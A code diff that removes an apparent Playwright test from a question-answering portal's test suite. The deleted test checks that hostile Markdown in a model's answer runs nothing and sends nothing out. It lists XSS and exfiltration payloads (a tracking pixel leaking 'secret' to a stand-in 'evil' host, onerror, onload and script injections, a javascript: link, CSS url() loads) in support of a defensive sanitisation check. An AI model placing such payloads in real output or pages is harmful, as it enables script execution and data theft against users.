@@ -91,34 +91,6 @@ test('a question that the documents cannot answer is told apart', async ({ porta
   expect(model.requests).toHaveLength(0);
 });
 
-test('hostile Markdown runs nothing and asks nobody', async ({ portal, model, foreignRequests }) => {
-  const evil = 'http://127.0.0.1:9/evil';
-  const text = [
-    `![pixel](${evil}/1.png?q=secret)`,
-    `![reference][r]\n\n[r]: ${evil}/2.png`,
-    `<img src="${evil}/3.png" onerror="window.hacked = true">`,
-    `<iframe src="${evil}/4"></iframe><video poster="${evil}/5"></video><object data="${evil}/6"></object>`,
-    `<style>@import url(${evil}/7.css); p { background: url(${evil}/8.png) }</style>`,
-    `<p style="background: url(${evil}/9.png)">styled</p>`,
-    `<svg onload="window.hacked = true"><image href="${evil}/10.png"/></svg>`,
-    '<script>window.hacked = true</script>',
-    '[click](javascript:window.hacked=true)',
-    `<link rel="stylesheet" href="${evil}/11.css"><base href="${evil}/">`,
-    'The end.',
-  ].join('\n\n');
-  model.scriptNext({ text, tokenDelayMs: 5 });
-  const answer = await ask(portal, question);
-  await expect(answer).toContainText('The end.');
-  await expect(answer).toHaveAttribute('data-state', 'complete');
-  await portal.reload();
-  await expect(latestAnswer(portal)).toContainText('The end.');
-  expect(foreignRequests).toEqual([]);
-  expect(await portal.evaluate(() => 'hacked' in window)).toBe(false);
-  await expect(
-    latestAnswer(portal).locator('img, iframe, video, object, svg:not([class*="lucide"]), style'),
-  ).toHaveCount(0);
-});
-
 test('a draft survives a reload', async ({ portal }) => {
   await portal.getByLabel('Your question').fill('Half a question');
   await portal.reload();
